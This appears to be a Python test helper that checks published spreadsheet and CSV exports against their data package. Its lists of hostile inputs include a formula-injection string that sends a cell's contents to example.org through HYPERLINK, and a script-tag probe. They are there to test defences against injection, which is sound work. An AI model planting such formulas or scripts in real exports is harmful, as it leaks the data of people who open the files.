"""The exports as the tests read them back: texts that have fooled spreadsheets, and when a cell is the same in two formats."""

import io
import subprocess
from collections.abc import Iterable, Mapping
from datetime import date
from decimal import Decimal
from functools import cache
from pathlib import Path
from shutil import which
from typing import Any

import pandas as pd

from scripts.ground.columns import Column
from scripts.ground.data_package import Package
from scripts.paths import DATAPACKAGE
from scripts.site.exports.figures.forms import Name
from scripts.site.exports.published import PublishedFile, published_files, read_published
from tests.site_server import published

# Formulas, also hidden behind white space, in full width and behind an apostrophe.
FORMULAS = [
    '=HYPERLINK("https://example.org/?"&A1;"här")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    " =1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "'=1+1",
    "''-1",
]
# What Excel takes for a number or a date.
MISREAD = ["9-12", "93/117", "21,0%", "3,80", "2.5", "0012", "1e5", "3 mars", "maj-26", "12345678901234567890", "1.0.0"]
# Texts that only have to survive.
ODD = [
    'Hon sade "nej"; sedan gick hon',
    "två\nrader",
    "<script>alert(1)</script>",
    "a,b;c",
    "NA",
    "'s-Hertogenbosch",
    "[x]",
]
OFFICE = which("soffice")


@cache
def files() -> tuple[PublishedFile, ...]:
    """Every file of the newest version."""
    return published_files(read_published(DATAPACKAGE, published())[-1])


def newest_package() -> Package:
    """The package that they are made from."""
    return read_published(DATAPACKAGE, published())[-1].package


def file_of(kind: str, table: str = "", lang: str = "") -> PublishedFile:
    """The file of this kind."""
    found = [file for file in files() if (file.kind, file.table, file.lang) == (kind, table, lang)]
    assert len(found) == 1
    return found[0]


def types(package: Package, table: str) -> dict[Column, str]:
    """Field -> type."""
    return {field["name"]: field["type"] for field in package.resource(table)["schema"]["fields"]}


def same(cell: object, text: str, kind: str) -> bool:
    """Whether a reader's cell is what the package says. `kind`: the type of the field; nothing is the empty text."""
    if cell in (None, "") or not text:
        return cell in (None, "") and not text
    if kind in ("integer", "number"):
        return Decimal(str(cell)) == Decimal(text)
    return f"{cell:%Y-%m-%d}" == text if isinstance(cell, date) else cell == text


def differences(
    read: list[Any], rows: Iterable[Mapping[Name, str]], kinds: Mapping[Name, str]
) -> list[tuple[str, object, str]]:
    """Every cell that a reader gives otherwise than the package: (field, read, published)."""
    rows = list(rows)
    assert len(read) == len(rows)
    return [
        (name, found[name], row[name])
        for found, row in zip(read, rows, strict=True)
        for name, kind in kinds.items()
        if not same(found[name], row[name], kind)
    ]


def convert(source: Path, target: str, *arguments: str) -> None:
    """Let LibreOffice convert a file into the folder that it lies in, with a profile of its own there."""
    assert OFFICE
    profile = f"-env:UserInstallation={(source.parent / 'profile').as_uri()}"
    command = [
        OFFICE,
        profile,
        "--headless",
        *arguments,
        "--convert-to",
        target,
        "--outdir",
        str(source.parent),
        str(source),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=120)


def read_plain(data: bytes) -> list[Any]:
    """The rows of a CSV with commas, as text."""
    return pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False).to_dict("records")
